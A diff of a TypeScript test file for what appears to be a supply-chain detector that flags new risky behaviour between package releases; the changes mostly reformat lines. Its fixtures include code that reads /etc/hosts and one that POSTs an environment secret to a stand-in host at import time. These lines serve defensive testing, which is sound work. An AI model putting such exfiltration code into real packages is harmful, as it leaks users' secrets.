@@ -5,7 +5,10 @@ import { differencesOf, type Release } from '../../test/differences.ts';
 
 const PLAIN: Release = { files: { 'index.js': `exports.add = (a, b) => a + b;` } };
 const told = (before: Release, after: Release): string[] => differencesOf(before, after).map(one => `${one.weight} ${one.detector}`);
-const says = (before: Release, after: Release): string => differencesOf(before, after).map(one => one.says).join('\n');
+const says = (before: Release, after: Release): string =>
+  differencesOf(before, after)
+    .map(one => one.says)
+    .join('\n');
 
 describe('what is new', () => {
   it('is nothing between a package and itself', () => {
@@ -14,7 +17,9 @@ describe('what is new', () => {
   });
 
   it('is no code that moved to another file, or was minified', () => {
-    const before = { 'index.js': `const fs = require('fs');\nconst read = () => fs.readFileSync('/etc/hosts');\nread();\nfetch('https://a.invalid');` };
+    const before = {
+      'index.js': `const fs = require('fs');\nconst read = () => fs.readFileSync('/etc/hosts');\nread();\nfetch('https://a.invalid');`,
+    };
     const after = { 'index.js': `require('./b')`, 'b.js': `var a=require("fs");a.readFileSync("/etc/hosts"),fetch("https://a.invalid")` };
     assert.deepEqual(
       told({ files: before }, { files: after }).filter(one => !one.endsWith('new-code-files')),
@@ -35,7 +40,10 @@ describe('what is new', () => {
   it('is an effect that happens at another moment, or is done to something else', () => {
     const before = { files: { 'index.js': `exports.go = () => fetch('https://a.invalid');` } };
     assert.deepEqual(told(before, { files: { 'index.js': `fetch('https://a.invalid');` } }), ['weak new-effect-at-import']);
-    assert.match(says(before, { files: { 'index.js': `exports.go = () => fetch('https://b.invalid');` } }), /connects \(https:\/\/b\.invalid\)/);
+    assert.match(
+      says(before, { files: { 'index.js': `exports.go = () => fetch('https://b.invalid');` } }),
+      /connects \(https:\/\/b\.invalid\)/,
+    );
     const address = (last: number): Release => ({ files: { 'index.js': `exports.go = () => fetch('http://192.0.2.${last}/');` } });
     assert.match(says(address(1), address(2)), /192\.0\.2\.2/);
   });
@@ -62,7 +70,9 @@ describe('what is new', () => {
 
   it('is data that leaves at import', () => {
     const before = { files: { 'index.js': `exports.key = process.env.KEY; fetch('https://a.invalid');` } };
-    const after = { files: { 'index.js': `exports.key = process.env.KEY; fetch('https://b.invalid', { method: 'POST', body: process.env.KEY });` } };
+    const after = {
+      files: { 'index.js': `exports.key = process.env.KEY; fetch('https://b.invalid', { method: 'POST', body: process.env.KEY });` },
+    };
     assert.ok(told(before, after).includes('strong new-flow'), said(before, after));
   });
 
